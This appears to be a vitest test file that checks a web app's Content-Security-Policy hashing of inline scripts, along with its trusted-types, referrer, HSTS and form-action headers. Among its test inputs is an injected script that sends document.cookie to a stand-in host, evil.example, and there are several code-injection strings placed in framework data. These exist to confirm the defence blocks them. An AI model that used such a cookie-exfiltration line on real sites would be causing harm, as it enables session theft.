import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { OwnScripts } from './own-scripts.ts'
import { inlineScriptHashes, pageSecurityHeaders } from './security-headers.ts'

const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`

const CHUNK = (data: string) => `window.__reactRouterContext.streamController.enqueue(${data});`
const CONTEXT = (data: string) =>
  `window.__reactRouterContext = ${data};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());`

describe('security headers', () => {
  const html =
    '<script>a()</script><script src="/x.js"></script><script id="q">b("<p>")</script><script>a()</script>'

  const own = new OwnScripts()
  own.add('a()')
  own.add('b("<p>")')

  it('names exactly our own inline scripts of the page, each once', () => {
    expect(inlineScriptHashes(html, own)).toEqual([hash('a()'), hash('b("<p>")')])
  })

  it.each([
    ['a script that somebody slipped in', 'fetch("https://evil.example?"+document.cookie)'],
    ['one of ours with something behind it', 'a();evil()'],
    ['data of the framework with something behind it', `${CHUNK('"x"')}evil();`],
    ['code in the place of data', CHUNK('"x",evil()')],
    ['code in the place of the context', CONTEXT('{"a":evil()}')],
  ])('gives %s no hash, so that it does not run', (_what, text) => {
    expect(inlineScriptHashes(`${html}<script>${text}</script>`, own)).toEqual([
      hash('a()'),
      hash('b("<p>")'),
    ])
    // Control: hashing every script of the page would have allowed it.
    expect(inlineScriptHashes(`<script>${text}</script>`, new OwnScripts(hash(text)))).toEqual([hash(text)])
  })

  it('knows the scripts in which the framework hands data over', () => {
    const data = [CHUNK('"[{\\"_1\\":2},\\"\\u003cscript>\\"]"'), CHUNK('""'), CONTEXT('{"basename":"/"}')]
    const page = [...data, 'window.__reactRouterContext.streamController.close();']
    expect(
      inlineScriptHashes(page.map((text) => `<script>${text}</script>`).join(''), new OwnScripts()),
    ).toEqual(page.map(hash))
  })

  it('[T3] allows no other inline script and sends no referrer', () => {
    const headers = pageSecurityHeaders(html, own, false)
    const scripts = headers['content-security-policy']
      ?.split('; ')
      .find((part) => part.startsWith('script-src'))
    expect(scripts).toBe(`script-src 'self' ${hash('a()')} ${hash('b("<p>")')}`)
    expect(headers['referrer-policy']).toBe('no-referrer')
    expect(headers).not.toHaveProperty('strict-transport-security')
    expect(pageSecurityHeaders(html, own, true)).toHaveProperty('strict-transport-security')
  })

  it('[OPN-77] [T26] takes no string as markup or as a script, and allows no policy', () => {
    const policy = pageSecurityHeaders(html, own, true)['content-security-policy']?.split('; ')
    expect(policy).toContain("require-trusted-types-for 'script'")
    expect(policy?.filter((part) => part.startsWith('trusted-types'))).toEqual(["trusted-types 'none'"])
  })

  it('[OPN-81] lets forms go to ourselves and to the payment pages that are configured, nowhere else', () => {
    const formAction = (headers: Record<string, string>) =>
      headers['content-security-policy']?.split('; ').find((part) => part.startsWith('form-action'))
    expect(formAction(pageSecurityHeaders(html, own, false))).toBe("form-action 'self'")
    expect(formAction(pageSecurityHeaders(html, own, false, ['https://pay.example']))).toBe(
      "form-action 'self' https://pay.example",
    )
  })
})
